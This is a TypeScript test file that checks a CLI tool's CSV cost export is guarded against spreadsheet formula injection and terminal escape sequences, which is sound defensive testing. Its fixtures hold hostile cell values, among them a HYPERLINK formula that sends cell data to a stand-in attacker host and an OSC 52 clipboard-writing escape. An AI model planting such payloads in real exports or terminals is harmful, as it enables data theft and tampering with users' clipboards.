/**
 * CSV formula injection, end to end (issue 19, item 3): a session whose
 * project is `=HYPERLINK(…)`, whose model is `+cmd`, provider `-2+3` and id
 * (so also its event ids) `@SUM(1)`, and a second one whose project starts
 * with a TAB and whose model holds OSC 52. `cost --csv` and
 * `cost --events --csv` (with `--host=-2+3`) put a `'` before each such text
 * cell and write numbers as they are; to a pipe the cells are otherwise
 * exact, on a terminal their controls are shown escaped.
 *
 * @module
 */
import assert from "node:assert/strict";
import { mkdir, mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import process from "node:process";
import { after, before, describe, it } from "node:test";
import { projectKey } from "../../lib/sessions/home.ts";
import { fsNowIso } from "../helpers/clock.ts";
import { messageLine, metaLine, usageLine } from "../helpers/fixtures.ts";
import { needs, skipBecause } from "../helpers/skips.ts";
import { HAVE_SCRIPT, runOnTerminal } from "../helpers/transcripts.ts";
import { BIN, run } from "./harness.ts";

const UNDER_BUN = process.versions.bun !== undefined;

const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")';
/** The same as a CSV cell: guarded, then quoted (it holds `"` and `,`). */
const HYPERLINK_CELL = `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`;
const TAB_CWD = "\t=1+1";
const OSC_MODEL = "\x1b]52;c;cHduZWQ=\x07m";

describe("e2e: CSV cells a spreadsheet would run", {
  skip: skipBecause(UNDER_BUN, "run once, under Deno"),
}, () => {
  let work = "";
  let home = "";

  async function session(meta: Parameters<typeof metaLine>[0], cost: number): Promise<void> {
    const dir = join(home, "sessions", projectKey(meta.cwd));
    await mkdir(dir, { recursive: true });
    await writeFile(
      join(dir, `20261102-010000-${meta.id.slice(0, 8).replace(/\W/g, "x")}.jsonl`),
      [
        metaLine(meta),
        messageLine("user", "hi", "2026-11-02T01:00:01Z"),
        usageLine({ input_tokens: 10, output_tokens: 5, cost_usd: cost }),
        messageLine("assistant", "ok", "2026-11-02T01:00:02Z"),
      ].map((l) => l + "\n").join(""),
    );
  }

  before(async () => {
    work = await mkdtemp(join(tmpdir(), "zot-csv-"));
    home = join(work, "home");
    await session(
      { id: "@SUM(1)", cwd: HYPERLINK, model: "+cmd", provider: "-2+3", title: "@SUM(1)" },
      0.5,
    );
    await session(
      { id: "b2b2b2b2-0000-4000-8000-000000000002", cwd: TAB_CWD, model: OSC_MODEL },
      0.25,
    );
  });
  after(() => rm(work, { recursive: true, force: true }));

  const zs = (args: string[]) => run(BIN, ["--no-index", ...args], { ZOT_HOME: home });

  it("cost --csv: a ' before =, +, -, @ and TAB; numbers as they are", () => {
    const r = zs(["cost", "--all", "--by", "project,model", "--csv"]);
    assert.equal(r.code, 0, r.err);
    assert.equal(
      r.out,
      "project,model,costUsd,inputTokens,outputTokens,cacheReadTokens,cacheWriteTokens,unpricedTokens,sessions\n" +
        `${HYPERLINK_CELL},'+cmd,0.5,10,5,0,0,0,1\n` +
        `'\t=1+1,${OSC_MODEL},0.25,10,5,0,0,0,1\n`,
    );
    const bySession = zs(["cost", "--all", "--by", "session,provider", "--csv"]);
    assert.equal(bySession.code, 0, bySession.err);
    assert.match(bySession.out, /^'@SUM\(1\),'-2\+3,0\.5,/m);
    // --by session adds the title and project: text cells, guarded too.
    const sessions = zs(["cost", "--all", "--by", "session", "--csv"]);
    assert.equal(sessions.code, 0, sessions.err);
    const row = sessions.out.split("\n").find((l) => l.startsWith("'@SUM(1),"));
    assert.equal(
      row?.replace(/,[0-9-]+T[0-9:.]+Z$/, ",UPDATED"),
      `'@SUM(1),0.5,10,5,0,0,0,1,0.5,'@SUM(1),${HYPERLINK_CELL},UPDATED`,
    );
    assert.ok(sessions.out.includes(`,'\t=1+1,`), sessions.out);
  });

  it("cost --events --csv: the same guard, with --host=-2+3", () => {
    const r = zs(["cost", "--all", "--events", "--csv", "--host=-2+3"]);
    assert.equal(r.code, 0, r.err);
    const lines = r.out.split("\n");
    assert.equal(lines.length, 4, r.out); // header, two events, ""
    const hostile = lines.find((l) => l.startsWith("'@SUM(1):"));
    assert.ok(hostile, r.out);
    assert.equal(
      hostile.replace(/,2026-[^,]*,/, ",TIME,").replace(`,${home},`, ",HOME,"),
      `'@SUM(1):1,TIME,'-2+3,HOME,'@SUM(1),,${HYPERLINK_CELL},'+cmd,'-2+3,10,5,0,0,0.5,0`,
    );
    const other = lines.find((l) => l.startsWith("b2b2b2b2"));
    assert.ok(other?.includes(`,'\t=1+1,${OSC_MODEL},`), r.out);
  });

  it(
    "on a terminal: controls escaped, then the guard",
    { skip: needs("util-linux script", HAVE_SCRIPT) },
    () => {
      const env = { ZOT_HOME: home, ZOT_SESSIONS_NOW: fsNowIso() };
      const r = runOnTerminal(
        ["--no-index", "cost", "--all", "--by", "project,model", "--csv"],
        env,
      );
      assert.equal(r.code, 0, r.err);
      const out = r.out.replaceAll("\r\n", "\n");
      assert.ok(out.includes(`${HYPERLINK_CELL},'+cmd,0.5,`), out);
      assert.ok(out.includes("'=1+1,␛]52;c;cHduZWQ=␇m,0.25,"), out);
      // deno-lint-ignore no-control-regex
      assert.doesNotMatch(out.replaceAll("\n", ""), /[\x00-\x1f\x7f]/);
    },
  );
});
